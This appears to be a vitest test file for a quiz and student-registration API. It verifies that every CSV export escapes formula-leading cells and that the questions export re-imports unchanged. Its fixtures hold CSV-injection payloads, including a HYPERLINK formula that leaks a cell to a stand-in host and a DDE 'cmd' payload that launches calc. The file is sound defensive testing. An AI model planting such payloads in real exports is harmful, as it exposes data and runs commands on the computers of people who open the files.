// CSV injection: a cell a spreadsheet would run as a formula must never leave the product as one. Every CSV the
// API answers is found by walking the route table, so a new export is checked without being listed here; and
// the questions export imports back unchanged.
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { fromExportedCell, neutraliseFormula } from "../csv/spreadsheet-csv.ts";
import { insertStudent } from "../modules/students/repository.ts";
import { createTestApp } from "../test/app.ts";
import { adminToken, bearer, registerStudent, studentInput } from "../test/fixtures.ts";
import { watchedLog } from "../test/log-watch.ts";

const FORMULAS = [
  '=HYPERLINK("http://x?leak="&C2,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];
const FORMULA_LEADING = /^[=+\-@\t\r＝＋－＠]/;
const SOME_ID = "00000000-0000-4000-8000-000000000000";

function cellsOf(csv: string): string[] {
  return (parse(csv, { relax_column_count: true }) as string[][]).flat();
}

describe("neutraliseFormula and fromExportedCell", () => {
  it.each(FORMULAS)("quotes %j and reads it back unchanged", (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    expect(fromExportedCell(neutraliseFormula(cell))).toBe(cell);
  });

  it.each(["'=already quoted", "''-2", "'plain", "plain", "2+3", "a=b", "", "'"])("round-trips %j exactly", (cell) => {
    expect(FORMULA_LEADING.test(neutraliseFormula(cell))).toBe(false);
    expect(fromExportedCell(neutraliseFormula(cell))).toBe(cell);
  });

  it("leaves a quote the export did not add", () => {
    expect(fromExportedCell("'plain")).toBe("'plain");
    expect(fromExportedCell("'2")).toBe("'2");
  });
});

describe("every CSV the API writes", async () => {
  const { app, database } = await createTestApp({ logStream: watchedLog() });
  const admin = bearer(await adminToken(app, database.db));

  for (const [index, formula] of FORMULAS.entries()) {
    const created = await app.inject({
      method: "POST",
      url: "/api/questions",
      headers: admin,
      payload: {
        text: `${formula} (question ${index})`,
        category: formula,
        difficulty: "easy",
        options: [
          { text: formula, isCorrect: true },
          { text: `-${index}`, isCorrect: false },
        ],
      },
    });
    // Text that starts with a tab or a carriage return is trimmed by the contract; the rest is stored as typed.
    expect(created.statusCode, created.body).toBe(201);
  }
  // As many options as a question may have, the right one last: the export must carry them all.
  const manyOptions = await app.inject({
    method: "POST",
    url: "/api/questions",
    headers: admin,
    payload: {
      text: "Which is the tenth option?",
      category: "Aptitude",
      difficulty: "hard",
      options: Array.from({ length: 10 }, (_, index) => ({ text: `=${index + 1}`, isCorrect: index === 9 })),
    },
  });
  expect(manyOptions.statusCode, manyOptions.body).toBe(201);
  // Students registered through the form, who then submit, so results.csv has their names too.
  for (const formula of FORMULAS) {
    const { token } = await registerStudent(app, { name: formula, usnNo: `${formula}-${Math.random()}`.slice(0, 50) });
    await app.inject({ method: "GET", url: "/api/quiz/questions", headers: bearer(token) });
    await app.inject({ method: "POST", url: "/api/quiz/submit", headers: bearer(token), payload: { answers: [] } });
  }
  // Feedback and contact enquiries typed by hand, so feedback.csv and enquiries.csv carry hostile text too.
  for (const [index, formula] of FORMULAS.entries()) {
    const text = { name: formula, section: formula, batch: formula, feedback: formula };
    const feedback = await app.inject({
      method: "POST",
      url: "/api/feedback",
      headers: admin,
      payload: { ...text, usnNumber: `1TW24CS0${index}`, emailId: `f${index}@example.com` },
    });
    expect([201, 400], feedback.body).toContain(feedback.statusCode);
    await app.inject({
      method: "POST",
      url: "/api/contact",
      remoteAddress: `10.9.0.${index + 1}`,
      payload: {
        name: formula,
        email: `c${index}@example.com`,
        subject: formula,
        phone: "9876543210",
        message: formula,
      },
    });
  }
  await database.pool.query(
    `insert into feedback (name, usn_number, email_id, section, batch, feedback)
     values (E'\t=1+1', '-1', 'x@example.com', '@A', '+1', E'\r=2')`,
  );
  await database.pool.query(
    `insert into contact_enquiries (name, email, subject, phone, message)
     values (E'\t=1+1', 'y@example.com', '-1', '+91', '@SUM(A1)')`,
  );
  // Rows stored before the contract refused leading tabs: the writer must not depend on the contract.
  const { rows: drives } = await database.pool.query<{ id: string }>("select id from drives where is_default");
  await insertStudent(database.db, {
    ...studentInput({ name: "\t=1+1", college: "\r@SUM(A1)", course: "-1" }),
    driveId: drives[0]?.id ?? "",
    resumeCodeHash: "",
    registrationKeyHash: null,
  });

  const csvRoutes: string[] = [];
  for (const route of app.apiRoutes.filter((candidate) => candidate.method === "GET")) {
    const response = await app.inject({ method: "GET", url: route.url.replace(":id", SOME_ID), headers: admin });
    if (String(response.headers["content-type"]).startsWith("text/csv")) csvRoutes.push(route.url);
  }

  it("finds the product's CSV exports in the route table", () => {
    expect(csvRoutes).toEqual(
      expect.arrayContaining([
        "/api/questions/export.csv",
        "/api/questions/export",
        "/api/students/export.csv",
        "/api/students/results/export.csv",
        "/api/feedback/export.csv",
        "/api/contact/export.csv",
      ]),
    );
  });

  it.each(csvRoutes)("%s has no cell a spreadsheet would run as a formula", async (url) => {
    const response = await app.inject({ method: "GET", url, headers: admin });
    const cells = cellsOf(response.body);
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((cell) => FORMULA_LEADING.test(cell))).toEqual([]);
  });

  it("quotes the hostile names in students.csv and results.csv", async () => {
    const students = cellsOf(
      (await app.inject({ method: "GET", url: "/api/students/export.csv", headers: admin })).body,
    );
    const results = cellsOf(
      (await app.inject({ method: "GET", url: "/api/students/results/export.csv", headers: admin })).body,
    );
    for (const formula of FORMULAS.filter((cell) => !/^[\t\r]/.test(cell))) {
      expect(students).toContain(`'${formula}`);
      expect(results).toContain(`'${formula}`);
    }
    expect(students).toEqual(expect.arrayContaining(["'\t=1+1", "'\r@SUM(A1)", "'-1"]));
  });

  it("quotes the hostile texts in feedback.csv and enquiries.csv", async () => {
    const feedback = cellsOf(
      (await app.inject({ method: "GET", url: "/api/feedback/export.csv", headers: admin })).body,
    );
    const enquiries = cellsOf(
      (await app.inject({ method: "GET", url: "/api/contact/export.csv", headers: admin })).body,
    );
    for (const formula of FORMULAS.filter((cell) => !/^[\t\r]/.test(cell))) {
      expect(feedback).toContain(`'${formula}`);
      expect(enquiries).toContain(`'${formula}`);
    }
    expect(feedback).toEqual(expect.arrayContaining(["'\t=1+1", "'-1", "'@A", "'+1", "'\r=2"]));
    expect(enquiries).toEqual(expect.arrayContaining(["'\t=1+1", "'-1", "'+91", "'@SUM(A1)"]));
  });

  it("imports its own questions export back with identical texts (export → import → same questions)", async () => {
    const exported = (await app.inject({ method: "GET", url: "/api/questions/export.csv", headers: admin })).body;
    const before = (await app.inject({ method: "GET", url: "/api/questions", headers: admin })).json();
    const target = await createTestApp({ logStream: watchedLog() });
    const targetAdmin = bearer(await adminToken(target.app, target.database.db));
    const imported = await target.app.inject({
      method: "POST",
      url: "/api/questions/import",
      headers: { ...targetAdmin, "content-type": "text/csv" },
      payload: exported,
    });
    expect(imported.statusCode, imported.body).toBe(201);
    expect(imported.json()).toEqual({ imported: before.length, skipped: 0 });
    const after = (await target.app.inject({ method: "GET", url: "/api/questions", headers: targetAdmin })).json();
    const shape = (questions: { text: string; category: string; options: { text: string; isCorrect: boolean }[] }[]) =>
      questions
        .map((question) => ({
          text: question.text,
          category: question.category,
          options: question.options.map((option) => [option.text, option.isCorrect]),
        }))
        .sort((a, b) => a.text.localeCompare(b.text));
    expect(shape(after)).toEqual(shape(before));
    expect(after.map((question: { text: string }) => question.text)).toContain(
      '=HYPERLINK("http://x?leak="&C2,"Click") (question 0)',
    );
  });
});

describe("one CSV writer", () => {
  it("toCsv is the only CSV writer, so no export can skip the escaping (csv-stringify is only its test's oracle)", () => {
    const source = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..");
    const files = fs
      .readdirSync(source, { recursive: true, encoding: "utf8" })
      .filter((file) => file.endsWith(".ts") && !file.endsWith(".test.ts"));
    const stringifiers = files.filter((file) =>
      /from "csv-stringify/.test(fs.readFileSync(path.join(source, file), "utf8")),
    );
    expect(stringifiers).toEqual([]);
    const writers = files.filter((file) =>
      /export function toCsv\b/.test(fs.readFileSync(path.join(source, file), "utf8")),
    );
    expect(writers).toEqual([path.join("csv", "spreadsheet-csv.ts")]);
  });
});
